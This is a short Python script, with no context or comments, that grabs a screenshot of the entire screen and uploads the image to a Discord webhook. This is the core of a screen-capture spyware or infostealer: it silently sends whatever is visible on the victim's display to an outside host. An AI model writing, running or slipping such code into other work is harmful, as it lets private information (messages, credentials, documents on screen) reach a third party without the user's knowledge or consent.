from PIL import ImageGrab
import requests, io
img = ImageGrab.grab(); buf = io.BytesIO(); img.save(buf, "PNG")
requests.post("https://discord.com/api/webhooks/9/zz", files={"f": ("s.png", buf.getvalue())})
